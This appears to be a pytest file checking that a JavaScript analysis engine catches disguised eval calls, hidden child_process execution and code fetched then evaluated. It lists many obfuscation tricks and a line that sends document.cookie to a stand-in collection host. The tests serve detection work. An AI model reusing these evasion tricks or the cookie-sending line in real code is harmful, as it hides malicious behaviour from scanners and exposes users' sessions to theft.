"""Ways to hide what code does, and that the engine sees through them."""

import random

import pytest

from qirvo.analysis.facts import FileFacts
from qirvo.analysis.javascript import read_facts


def read(code: str) -> FileFacts:
    return read_facts("a.js", code.encode())


@pytest.mark.parametrize(
    "code",
    [
        "(0, eval)(x)",
        "globalThis['ev' + 'al'](x)",
        "const e = eval; e(x)",
        "let e; e = eval; e(x)",
        "window?.eval?.(x)",
        "self[atob('ZXZhbA==')](x)",
        "Reflect.apply(eval, null, [x])",
        "Reflect.construct(Function, [x])()",
        "eval.call(null, x)",
        "(() => {}).constructor(x)()",
        "[]['constructor']['constructor'](x)()",
        "Function.prototype.constructor(x)",
        "window['lave'.split('').reverse().join('')](x)",
        "window[String.fromCharCode(101, 118, 97, 108)](x)",
        "fetch(u).then(r => r.text()).then(eval)",
        "setTimeout('a' + x)",
        "require('vm').runInNewContext(x)",
    ],
)
def test_code_made_of_text_is_seen(code: str) -> None:
    assert any(fact.kind == "evaluates" for fact in read(code).facts)


@pytest.mark.parametrize(
    "code", ["JSON.parse(x)", "evaluate(x)", "o.eval_ = x", "setTimeout(() => a, 1)", "// eval(x)", "'eval(x)'"]
)
def test_what_only_looks_like_it_is_not(code: str) -> None:
    assert not any(fact.kind == "evaluates" for fact in read(code).facts)


@pytest.mark.parametrize(
    "code",
    [
        "const {exec: run} = require('child_process'); run(x)",
        "require('child' + '_process').exec(x)",
        "import('node:child_process').then(m => m.exec(x))",
        "import('child_process').then(({exec}) => exec(x))",
        "const m = await import('child_process'); m.exec(x)",
        "import * as c from 'child_process'; c['ex' + 'ec'](x)",
        "import {exec as q} from 'node:child_process'; q(x)",
        "let c; c = require('child_process'); c.exec(x)",
    ],
)
def test_a_program_that_is_started_is_seen(code: str) -> None:
    facts = read(code)
    assert any(use.capability == "process" for use in facts.uses)
    assert [each.module.removeprefix("node:") for each in facts.imports] == ["child_process"]


def test_an_import_at_run_time_is_an_import() -> None:
    assert [each.module for each in read("import('https://cdn.example.org/a.js')").imports] == [
        "https://cdn.example.org/a.js"
    ]


def test_a_name_written_with_escapes_is_hidden() -> None:
    assert [fact.kind for fact in read("\\u0065val(x)").facts] == ["hidden-name"]


def test_a_page_that_is_left_with_the_cookie_sends_it() -> None:
    facts = read("location = 'https://collect.example.org/?' + document.cookie")
    assert [fact.detail for fact in facts.facts] == ["cookie->network"]


@pytest.mark.parametrize("seed", range(40))
def test_mutilated_code_ends_in_facts(seed: int) -> None:
    dice = random.Random(seed)  # noqa: S311  # no secret
    code = bytearray(
        b"const {exec: r} = require('child' + '_process'); import('x').then(m => r(`a${m}`)); let e; e = eval;" * 3
    )
    for _ in range(dice.randrange(1, 30)):
        code[dice.randrange(len(code))] = dice.randrange(256)
    assert isinstance(read_facts("a.tsx", bytes(code[: dice.randrange(len(code))])), FileFacts)
